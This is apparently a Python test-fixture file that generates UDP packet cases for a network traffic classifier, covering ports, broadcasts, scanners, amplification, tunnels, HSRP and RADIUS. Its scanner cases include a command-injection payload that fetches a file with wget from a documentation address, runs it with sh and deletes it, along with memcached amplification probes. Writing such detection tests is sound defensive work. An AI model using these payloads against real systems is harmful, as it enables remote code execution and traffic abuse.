# SPDX-License-Identifier: GPL-3.0-or-later
"""UDP rows for what no analyzer wanted: clients, servers and scanners by port and payload."""
from golden import case
from hosts import ALICE, BOB, EVERYONE, datagram, ip_packet
from support import link
from support.link import ether, vlan
from support.transport import udp

HSRP_V4 = BOB._replace(mac="01:00:5e:00:00:02", v4="224.0.0.2", v6="ff02::66")
SHODAN = ALICE._replace(v4="66.240.192.138")
MEET = BOB._replace(v4="64.233.165.127", v6="2607:f8b0:4002:c08::7f")
SUBNET = EVERYONE._replace(v4="10.0.0.255")  # broadcast by its MAC address alone


def asks(dport, payload, sport=40000, dst=BOB, **fields):
    return datagram(ALICE, dst, sport, dport, payload, **fields)


def answers(sport, payload, dport=40000, src=BOB, **fields):
    return datagram(src, ALICE, sport, dport, payload, **fields)


@case
def clients_and_servers():
    """What a payload on its port tells, over IPv4, IPv6 and in a VLAN"""
    for v6 in (False, True):
        yield asks(80, b"", v6=v6)
        yield asks(80, b"x", v6=v6)
        yield answers(80, b"x", v6=v6)
        yield asks(427, b"service:printer", v6=v6)
        yield asks(427, b"printer", v6=v6)
        yield asks(69, b"\0\1boot.img\0octet\0", v6=v6)
        yield answers(69, b"\0\3\0\1data", v6=v6)
    inner = ip_packet(ALICE, BOB, udp(40000, 5683, b"@\1\0\0"))
    yield ether(vlan(5, vlan(7, inner), tpid=0x88A8), BOB.mac, ALICE.mac)


@case
def casts():
    """Who a packet is for, by the IP address or the MAC address"""
    for dst in (BOB, EVERYONE, SUBNET, HSRP_V4):
        yield asks(57621, b"SpotUdp0", dst=dst)
        yield asks(8612, b"BJNP", dst=dst)
        yield asks(3289, b"EPSON", dst=dst)
        yield asks(3289, b"other", dst=dst)
    yield asks(8612, b"BJNP", dst=EVERYONE, v6=True)


@case(link=113)
def cooked():
    """Without MAC addresses the packet type tells a broadcast, and no rule asks for a broadcast MAC"""
    for payload, dport in ((b"SpotUdp0", 57621), (b"EPSON", 3289)):
        yield link.sll(ip_packet(ALICE, SUBNET, udp(40000, dport, payload)), packet_type=1)


@case
def empty():
    """Really empty packets only: not those of the link's padding, nor those cut behind the header"""
    yield asks(17, b"")
    yield asks(40001, b"")
    yield asks(40001, b"", v6=True)
    yield asks(40002, b"") + bytes(18)
    yield asks(40003, b"not captured")[: 14 + 20 + 8]
    yield asks(40004, b"x")


@case
def scanners():
    """Payloads of scanners on any port, and scanners by their address"""
    yield asks(1434, b"\2")
    yield asks(9987, b"TS3INIT1\0")
    yield asks(40001, b"\0\0\0\0abcdefgh")
    yield asks(40001, b"d1:ad2:id20:abcdefghij0123456789e1:q4:ping1:t2:aa1:y1:qe")
    yield answers(40001, b"d1:rd2:id20:abcdefghij01234567895:nodes0:5:token1:xe1:t2:aa1:y1:re")
    yield asks(40001, b"d1:rd2:id20:abcdefghij01234567895:token1:xe1:t2:aa1:y1:re")
    yield asks(40001, b"; wget http://192.0.2.9/x; sh x; rm -rf x")
    yield datagram(SHODAN, BOB, 40000, 40001, b"x")


@case
def amplification():
    """Requests whose answer goes to somebody else"""
    yield asks(11211, b"\0\1\0\0\0\1\0\0stats\r\n")
    yield asks(11211, b"\0\1\0\0\0\1\0\0version\r\n")
    yield asks(11211, b"\0\1\0\0\0\1\0\0get a\r\n")
    yield answers(11211, b"\0\1\0\0\0\1\0\0END\r\n")
    yield asks(27960, b"\xff\xff\xff\xffgetstatus")


@case
def traceroute():
    """The ports of traceroute, all under the first one's name"""
    for port in (335, 33433, 33434, 33524, 33525):
        yield asks(port, b"@ABCDEFG", ttl=1)


@case
def tunnels():
    """Ports of tunnels and of IPsec behind address translation"""
    esp = bytes.fromhex("01234567000000010011223344556677")
    yield asks(4500, esp)
    yield answers(4500, esp)
    yield asks(4500, b"\xff")
    yield asks(500, bytes(17) + b"\x10" + bytes(10), sport=500)
    yield asks(500, bytes(17) + b"\xbe" + bytes(10), sport=500, v6=True)  # no version is foreign
    yield answers(500, bytes(17) + b"\x20" + bytes(9), dport=500)  # shorter than a header


@case
def hsrp():
    """Routers that share an address: two records for one packet, with TTL 1 only"""
    hello = bytes.fromhex("000010030a640100636973636f0000000a000001")
    yield asks(1985, hello, sport=1985, dst=HSRP_V4, ttl=2)
    yield asks(1985, hello, sport=1985, dst=HSRP_V4, ttl=1)
    yield asks(2029, hello, sport=2029, dst=HSRP_V4, hop_limit=1, v6=True)


@case
def known_hosts():
    """Services by address and port, and what is missing in our tables"""
    stun = bytes.fromhex("000100002112a442") + bytes(12)
    for v6 in (False, True):
        yield asks(19305, stun, dst=MEET, v6=v6)
        yield answers(19305, stun, src=MEET, v6=v6)
        yield asks(19305, stun, v6=v6)
        yield answers(19305, stun, v6=v6)


@case
def names_of_ports():
    """A port has the last word where nothing is known of the payload"""
    yield asks(6970, b"x")
    yield answers(6970, b"x")
    yield asks(9999, b"x", dst=EVERYONE)
    yield asks(9999, b"x")
    yield answers(9999, b"x")


@case
def radius():
    """RADIUS needs its header: a known code and a length that can be"""
    access = bytes.fromhex("010100140123456789abcdef0123456789abcdef")
    yield asks(1812, access)
    yield answers(1812, b"\2" + access[1:])
    yield asks(1812, access[:19], dst=EVERYONE, v6=True)
    yield asks(1812, b"\x99" + access[1:], v6=True)
    yield asks(1812, access[:2] + b"\xff" + access[3:], v6=True)
